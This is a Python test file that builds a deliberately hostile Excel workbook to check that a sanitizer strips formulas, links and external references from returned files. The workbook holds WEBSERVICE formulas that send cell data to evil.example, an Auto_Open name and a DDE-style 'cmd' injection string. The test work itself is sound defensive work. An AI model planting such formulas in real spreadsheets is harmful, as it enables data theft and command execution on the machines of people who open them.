"""The workbook sent back: nothing of what came with the file computes, fetches, follows a link or proposes a value."""

from __future__ import annotations

import io
import re
import zipfile

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.formatting.rule import CellIsRule, FormulaRule
from openpyxl.packaging.custom import LinkProperty, StringProperty
from openpyxl.workbook import Workbook
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.hyperlink import Hyperlink
from openpyxl.worksheet.scenario import InputCells, Scenario, ScenarioList
from openpyxl.worksheet.table import Table, TableFormula
from tests.returns_raw import COVER_CELLS, operation

from traboule.returns.check import check
from traboule.returns.faults.disarming import is_inert
from traboule.returns.form import form
from traboule.returns.read import read
from traboule.returns.reading.marking import mark_apart
from traboule.returns.workbook import template

FETCH = 'WEBSERVICE("http://evil.example/?"&A2)'
ROWS = {"people": [{"row_id": "P1", "sex": "martian"}]}


def hostile() -> bytes:
    """A return of ours to which somebody added everything a spreadsheet program computes, follows or fetches."""
    filed = template(form(), operation=operation(), state="ML", language="en", cover=COVER_CELLS, rows=ROWS)
    book = openpyxl.load_workbook(io.BytesIO(filed))
    people = book["People"]
    for name, formula in {"Fetch": FETCH, "traboule.people.sex": FETCH, "_xlnm.Auto_Open": "People!$A$1"}.items():
        book.defined_names[name] = DefinedName(name, attr_text=formula)
    people.defined_names["Here"] = DefinedName("Here", attr_text=FETCH)
    people.add_data_validation(DataValidation(type="custom", formula1=FETCH, sqref="B2:B9"))
    people.add_data_validation(DataValidation(type="list", formula1="[1]Other!$A$1:$A$9", sqref="C2:C9"))
    people.add_data_validation(DataValidation(type="whole", formula1="1", formula2=FETCH, sqref="D2"))
    people.conditional_formatting.add("A2:A9", FormulaRule([FETCH]))
    people.conditional_formatting.add("A2:A9", CellIsRule("equal", [FETCH]))
    people["E2"].hyperlink = "http://evil.example/"
    people["F2"].hyperlink = Hyperlink(ref="F2", location="'C:\\evil'!A1")
    people["G2"] = f"={FETCH}"
    chart = BarChart()
    chart.add_data(Reference(people, min_col=1, min_row=1, max_row=9))
    people.add_chart(chart)
    people.scenarios = ScenarioList([Scenario(name="s", inputCells=[InputCells(r="A2", val=FETCH)])])
    table = Table(displayName="Sums", ref="A1:B2")
    table._initialise_columns()
    table.tableColumns[0].calculatedColumnFormula = TableFormula(attr_text=FETCH)
    sums = book.create_sheet("Sums")
    sums["A1"], sums["B1"] = "Column1", "Column2"
    sums.add_table(table)
    sheet_of_chart = BarChart()
    sheet_of_chart.add_data(Reference(people, min_col=1, min_row=1, max_row=9))
    book.create_chartsheet("Chart").add_chart(sheet_of_chart)
    book.custom_doc_props.append(StringProperty(name="x", value=FETCH))
    book.custom_doc_props.append(LinkProperty(name="y", value="Fetch"))
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


@pytest.fixture(scope="module")
def returned() -> bytes:
    content = hostile()
    findings = check(read(content, file_name="ML.xlsx"), form(), operation()).findings
    assert findings
    return mark_apart(content, findings, "en", file_name="ML.xlsx")


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@pytest.mark.promise("exports-carry-no-formula")
def test_the_xml_of_the_file_sent_back_holds_nothing_that_leads_out(returned: bytes) -> None:
    before = b"".join(parts(hostile()).values())
    for poison in (b"WEBSERVICE", b"evil", b"[1]Other", b"<scenario", b"<c:chart"):
        assert poison in before
        for name, part in parts(returned).items():
            # As a text in a cell it may stand: there it is what somebody typed.
            assert name == "xl/sharedStrings.xml" or poison not in re.sub(rb"<is>.*?</is>", b"", part), name
    for name, part in parts(returned).items():
        assert b'TargetMode="External"' not in part, name
        assert not re.search(rb"<f[ >]|<hyperlink [^>]*r:id|<oleObject|<externalReference|calculatedColumn", part), name


@pytest.mark.promise("exports-carry-no-formula")
def test_what_openpyxl_reads_of_it_is_of_our_own_making(returned: bytes) -> None:
    book: Workbook = openpyxl.load_workbook(io.BytesIO(returned))
    assert set(map(str.lower, book.defined_names)) <= {
        f"traboule.{table.id}.{field}".lower() for table in form().tables.values() for field in table.fields
    }
    assert "Chart" not in book.sheetnames
    assert {entry.name for entry in book.custom_doc_props.props} <= {"form_version", "language"}
    for sheet in book.worksheets:
        assert not sheet.defined_names
        for rule in sheet.data_validations.dataValidation:
            assert is_inert(rule.formula1)
            assert is_inert(rule.formula2)
        for formatted in sheet.conditional_formatting:
            assert all(is_inert(formula) for rule in formatted.rules for formula in rule.formula)
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f"
                assert sheet.title == "Faults" or cell.hyperlink is None


@pytest.mark.parametrize("language", ["fr", "ar"])
def test_a_template_of_ours_keeps_its_lists_rules_and_names(language: str) -> None:
    filed = template(form(), operation=operation(), state="ML", language=language, cover=COVER_CELLS, rows=ROWS)
    findings = check(read(filed, file_name="ML.xlsx"), form(), operation()).findings
    before = openpyxl.load_workbook(io.BytesIO(filed))
    after = openpyxl.load_workbook(io.BytesIO(mark_apart(filed, findings, language)))
    assert set(after.defined_names) == set(before.defined_names)
    for sheet in before.worksheets:
        same = after[sheet.title]
        assert len(same.data_validations.dataValidation) == len(sheet.data_validations.dataValidation)
        assert len(same.conditional_formatting) == len(sheet.conditional_formatting)


@pytest.mark.parametrize(
    "formula",
    [
        FETCH, "Fetch", "[1]Other!A1", "'[b.xlsx]S'!$A$1", "'C:\\b\\[b.xlsx]S'!A1", "cmd|' /C calc'!A0", "A1+A2",
        "OFFSET(A1,0,0,MAX(1,COUNTA(Fetch)),1)", 'A1&"x"', '"a"&Fetch&"b"', "AND(COUNTA(A1)>0,LEN(A1)=0)+Fetch",
        "http://evil.example/", "#REF!",
    ],
)  # fmt: skip
def test_a_formula_that_no_template_writes_is_not_inert(formula: str) -> None:
    assert not is_inert(formula)
